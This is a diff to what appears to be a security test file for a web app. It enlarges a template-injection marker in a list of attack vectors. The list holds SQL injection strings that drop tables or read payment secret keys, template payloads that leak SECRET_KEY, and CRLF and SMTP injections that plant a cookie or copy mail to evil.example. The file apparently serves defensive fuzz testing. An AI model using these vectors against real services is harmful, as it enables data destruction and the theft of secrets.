@@ -17,14 +17,16 @@ WEB = Path(__file__).parents[2] / "webapp" / "web"
 FILTERS = sorted(
     {name for file in WEB.rglob("*.py") for name in re.findall(r'args\.get\(\s*"(\w+)"', file.read_text())}
 )
-CARRIED_OUT = "50337"
+_TASK = "7654321*7191919"
+CARRIED_OUT = str(7654321 * 7191919)
+"""Too long to stand in a random id by chance."""
 VECTORS = [
     "' OR '1'='1' --",
     "1; DROP TABLE members; --",
     "') UNION SELECT secret_key FROM payment_processors --",
     "\\'; SELECT pg_sleep(5); --",
     "%' AND 1=CAST((SELECT version()) AS int) AND '%'='",
-    "{{ 7*7191 }}${7*7191}#{7*7191}<%= 7*7191 %>{% for x in [] %}",
+    f"{{{{ {_TASK} }}}}${{{_TASK}}}#{{{_TASK}}}<%= {_TASK} %>{{% for x in [] %}}",
     "{{ config.SECRET_KEY }}{{ ''.__class__.__mro__ }}",
     "a\r\nSet-Cookie: stolen=1\r\n\r\n<html>",
     "a\r\nBcc: all@evil.example\r\n.\r\nMAIL FROM:<x@evil.example>",
